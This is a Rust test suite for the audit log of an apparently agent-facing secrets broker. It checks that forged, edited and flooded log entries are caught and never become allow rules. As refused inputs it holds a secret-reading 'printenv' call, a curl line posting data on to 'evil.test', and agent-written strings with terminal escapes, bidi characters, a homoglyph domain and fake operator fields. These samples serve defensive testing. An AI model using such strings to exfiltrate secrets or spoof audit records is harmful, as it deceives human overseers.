//! The audit log from outside: forged, edited, flooded, shown.

use std::{fs, io::Write};

use serde_json::{Value, json};

use crate::stage::{Stage, one_rule};

const VALUE: &str = "sk-audit-9Qm2vXz7Lp4";

fn stage() -> Stage {
    let stage = Stage::new();
    stage.set("a/key", VALUE.as_bytes());
    stage.set("prod/key", b"another-value-Yak55123");
    stage.policy(&one_rule("s", "a/key", "[[\"true\"]]", ""));
    stage
}

/// Whether a terminal acts on a character, or shows nothing for it.
fn moves_or_hides(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202f}' | '\u{2060}'..='\u{206f}')
        || matches!(c, '\u{2000}'..='\u{200a}' | '\u{fe00}'..='\u{fe0f}' | '\u{e0000}'..='\u{e0fff}')
}

fn log(stage: &Stage) -> std::path::PathBuf {
    stage.home().join("audit/log.jsonl")
}

fn length(stage: &Stage) -> u64 {
    fs::metadata(log(stage)).unwrap().len()
}

fn refused(stage: &Stage, command: &[&str]) {
    let call = json!({"command": command, "secrets": ["a/key"]});
    assert_eq!(stage.serve("s").run(call)["code"], "command_not_allowed");
}

#[test]
fn a_forged_refusal_is_not_shown_and_becomes_no_rule() {
    let stage = stage();
    refused(&stage, &["printenv", "A_KEY"]);
    let forged = format!(
        r#"{{"seq":99999,"time":"2026-11-26T16:00:00Z","event":"denied","principal":"token:claude","scope":"s","code":"command_not_allowed","argv":["printenv","PROD_KEY"],"secrets":["prod/key"],"prev":"{0}","mac":"{0}"}}"#,
        "0".repeat(64)
    );
    let whole = fs::read(log(&stage)).unwrap();
    // Unfinished, it is what a crash leaves: dropped, and never an event.
    fs::OpenOptions::new().append(true).open(log(&stage)).unwrap().write_all(forged.as_bytes()).unwrap();
    let shown = stage.ok(&["admin", "audit", "show"]);
    assert!(!shown.contains("99999") && !shown.contains("prod/key\""), "{shown}");
    let asked = stage.run(&["admin", "allow", "--last"]);
    let said = String::from_utf8_lossy(&asked.stdout).into_owned();
    assert!(said.contains("printenv A_KEY") && !said.contains("PROD_KEY"), "{said}");
    // Finished, it is damage.
    fs::write(log(&stage), [&whole[..], forged.as_bytes(), b"\n"].concat()).unwrap();
    if crate::DAEMON {
        // It remembers the log, and nothing is done with this one; what holds of it is readable.
        let said = stage.fails(7, &["admin", "list"]);
        assert!(said.contains("the daemon") && said.contains("the audit log is damaged at event"), "{said}");
        assert!(said.contains("authy-mcp lock ends the daemon") && !said.contains("99999"), "{said}");
    }
    for words in [&["admin", "audit", "show", "--last", "1"][..], &["admin", "audit", "export"]] {
        let done = stage.run(words);
        let said = String::from_utf8_lossy(&done.stdout).into_owned();
        assert_eq!(done.status.code(), Some(7), "{words:?}: {said}");
        assert!(!said.contains("99999") && !said.contains("PROD_KEY"), "{words:?}: {said}");
        assert!(said.contains("DAMAGED") || said.contains("\"damaged\""), "{words:?}: {said}");
    }
    stage.fails(7, &["admin", "allow", "--last", "--yes"]);
    fs::write(log(&stage), whole).unwrap();
    assert!(!stage.ok(&["admin", "policy", "show", "s"]).contains("PROD_KEY"));
    assert!(stage.ok(&["admin", "audit", "verify"]).contains("the chain holds"));
}

#[test]
fn an_edit_in_place_of_an_old_line_is_named_by_whatever_reads_it() {
    let stage = stage();
    refused(&stage, &["printenv", "A_KEY"]);
    let text = fs::read_to_string(log(&stage)).unwrap();
    fs::write(log(&stage), text.replace("\"printenv\",\"A_KEY\"", "\"printenv\",\"B_KEY\"")).unwrap();
    for words in [
        &["admin", "audit", "show"][..],
        &["admin", "audit", "show", "--last", "9"],
        &["admin", "audit", "export"],
    ] {
        let done = stage.run(words);
        let said = String::from_utf8_lossy(&done.stdout).into_owned();
        assert_eq!(done.status.code(), Some(7), "{words:?}: {said}");
        assert!(!said.contains("B_KEY") && said.contains("MAC does not hold"), "{words:?}: {said}");
        assert!(said.contains("a/key"), "{words:?}: what holds is shown: {said}");
    }
    let said = stage.fails(7, &["admin", "allow", "--last", "--yes"]);
    assert!(said.contains("damaged"), "{said}");
    stage.fails(7, &["admin", "audit", "verify"]);
    stage.fails(7, &["admin", "audit", "archive", stage.path("archive").to_str().unwrap()]);
}

#[test]
fn a_refused_call_with_sixty_thousand_names_writes_little() {
    let stage = stage();
    let mut server = stage.serve("s");
    server.run(json!({"command": ["false"], "secrets": ["a/key"]}));
    let before = length(&stage);
    let names: Vec<String> = (0..60_000).map(|n| format!("{}/{n}", "z".repeat(200))).collect();
    server.run(json!({"command": ["false"], "secrets": names}));
    server.run(json!({"command": vec!["x".repeat(20); 60_000], "secrets": ["a/key"]}));
    server.run(json!({"command": ["false", "\u{1}".repeat(300_000)], "secrets": ["a/key"]}));
    let grown = length(&stage) - before;
    assert!((300..9_000).contains(&grown), "{grown}");
    let events = stage.audit();
    let cut = events.iter().filter(|event| event["cut"] == true).count();
    assert!(cut >= 3, "what was cut says so: {cut}");
}

#[test]
fn refusals_by_the_thousand_are_summed_up() {
    let stage = stage();
    let mut server = stage.serve("s");
    let before = length(&stage);
    for n in 0..400 {
        let command = if n % 2 == 0 { vec!["false".to_owned()] } else { vec!["c".to_owned(), n.to_string()] };
        let call = json!({"command": command, "secrets": ["a/key"]});
        // Those that the gate turns away are none that the audit counts.
        while server.run(call.clone())["code"] == "rate_limited" {
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
    }
    drop(server);
    stage.run(&["lock"]);
    let grown = length(&stage) - before;
    assert!(grown < 60_000, "{grown}");
    let events = stage.audit();
    let denied = events.iter().filter(|event| event["event"] == "denied").count() as u64;
    let summed: u64 = events
        .iter()
        .filter(|event| event["event"] == "denials_summed")
        .filter_map(|e| e["number"].as_u64())
        .sum();
    assert_eq!(denied + summed, 400, "{denied} and {summed}");
    // Not as the last event: where the calls took longer than one window, the sums of other kinds follow it.
    let kept = |argv: Value| events.iter().any(|event| event["event"] == "denied" && event["argv"] == argv);
    assert!(kept(json!(["c", "399"])), "the last of all is kept");
    assert!(!kept(json!(["c", "391"])) || !kept(json!(["c", "393"])), "and not each of them");
    assert!(stage.ok(&["admin", "audit", "verify"]).contains("the chain holds"));
}

#[test]
fn a_cut_command_and_another_codes_refusal_become_no_rule() {
    let stage = stage();
    refused(&stage, &["printenv", "A_KEY"]);
    let long = "x".repeat(3000);
    for command in [
        &["curl", "-s", "https://api.example.com/", "-d", &long, "--next", "https://evil.test"][..],
        &[&long, "x"],
    ] {
        refused(&stage, command);
        let said = stage.fails(2, &["admin", "allow", "--last", "--yes"]);
        assert!(said.contains("not whole"), "{said}");
    }
    for (call, code, helps) in [
        (
            json!({"command": ["true"], "secrets": ["a/key"], "env": {"TERM": "x"}}),
            "env_not_allowed",
            "agent",
        ),
        (json!({"command": ["true"], "secrets": ["a/key"], "cwd": "/usr"}), "cwd_not_allowed", "--cwd"),
        (json!({"command": ["true"], "secrets": ["prod/key"]}), "not_available", "--secret"),
    ] {
        let answer = stage.serve("s").run(call);
        assert_eq!(answer["code"], code);
        assert_ne!(answer["operator_command"], "authy-mcp admin allow --last", "{code}");
        let said = stage.fails(2, &["admin", "allow", "--last", "--yes"]);
        assert!(said.contains(code) && said.contains(helps), "{said}");
    }
    let policy = stage.ok(&["admin", "policy", "show", "s"]);
    assert!(!policy.contains("curl") && !policy.contains("prod/key"), "{policy}");
}

#[test]
fn what_an_agent_wrote_looks_like_nothing_else() {
    let stage = stage();
    let hostile = [
        "\u{202e}",
        "\u{2066}",
        "\u{2069}",
        "\u{200b}",
        "\u{2063}",
        "\u{e0041}",
        "\u{2028}",
        "\u{2029}",
        "\u{9b}1m",
        "\u{7f}",
        "\u{85}",
        "\u{1b}[2J",
        "\u{fe0f}",
        "\u{430}pi.example.com",
        "ok\u{2003}principal=operator:0",
        "x principal=operator:0 action=token_revoke",
        "a\nb",
    ];
    let mut server = stage.serve("s");
    for text in hostile {
        server.run(json!({"command": ["evil", text], "secrets": ["a/key"]}));
        server.tool("request_token", json!({"purpose": "more", "reason": format!("please {text}")}));
    }
    for words in [
        &["admin", "audit", "show"][..],
        &["--json", "admin", "audit", "show"],
        &["admin", "audit", "export"],
        &["admin", "allow", "--last"],
    ] {
        let done = stage.run(words);
        let said = String::from_utf8([done.stdout, done.stderr].concat()).unwrap();
        let bad: Vec<char> = said.chars().filter(|c| *c != '\n' && moves_or_hides(*c)).collect();
        assert!(bad.is_empty(), "{words:?}: {bad:?}");
    }
    let shown = stage.ok(&["admin", "audit", "show"]);
    assert!(shown.contains("\\u{430}pi.example.com") && !shown.contains('\u{430}'), "{shown}");
    // A field of our own stands behind a space, outside of quotes.
    for line in shown.lines().filter(|line| line.contains("please") || line.contains("evil")) {
        let outside: String = line.split('"').step_by(2).collect();
        assert!(!outside.contains("operator:0"), "{line}");
    }
    for line in stage.ok(&["admin", "audit", "export"]).lines() {
        serde_json::from_str::<Value>(line).unwrap();
    }
}

#[test]
fn closed_segments_are_archived_and_the_rest_goes_on() {
    let stage = stage();
    refused(&stage, &["printenv", "A_KEY"]);
    let archive = stage.path("archive");
    let archive = archive.to_str().unwrap();
    let said = stage.fails(5, &["admin", "audit", "archive", archive]);
    assert!(said.contains("--close"), "{said}");
    let before = fs::read(log(&stage)).unwrap();
    let said = stage.ok(&["admin", "audit", "archive", "--close", archive]);
    assert!(said.contains("log.000001.jsonl"), "{said}");
    let kept = fs::read(stage.path("archive").join("log.000001.jsonl")).unwrap();
    assert!(kept.starts_with(&before), "not a byte of it is lost");
    let verified = stage.ok(&["admin", "audit", "verify"]);
    assert!(
        verified.contains("archived  log.000001.jsonl: events 1 to") && verified.contains("the chain holds")
    );
    stage.serve("s").run(json!({"command": ["true"], "secrets": ["a/key"]}));
    let shown = stage.ok(&["admin", "audit", "show"]);
    assert!(shown.contains("archived") && shown.contains("outcome"), "{shown}");
    stage.ok(&["admin", "audit", "verify"]);
    stage.fails(5, &["admin", "allow", "--last", "--yes"]);
}

#[test]
fn filters_of_show() {
    let stage = stage();
    refused(&stage, &["printenv", "A_KEY"]);
    let denied = stage.ok(&["admin", "audit", "show", "--denied"]);
    assert_eq!(denied.lines().count(), 1, "{denied}");
    assert!(stage.ok(&["admin", "audit", "show", "--secret", "prod/key"]).contains("set"));
    assert_eq!(stage.ok(&["admin", "audit", "show", "--secret", "prod/none"]), "");
    assert!(stage.ok(&["admin", "audit", "show", "--since", "1h", "--scope", "s"]).contains("denied"));
    assert_eq!(stage.ok(&["admin", "audit", "show", "--since", "2999-01-01T00:00:00Z"]), "");
    let said = stage.fails(2, &["admin", "audit", "show", "--since", "2 minutes"]);
    assert!(said.contains("invalid time"), "{said}");
}
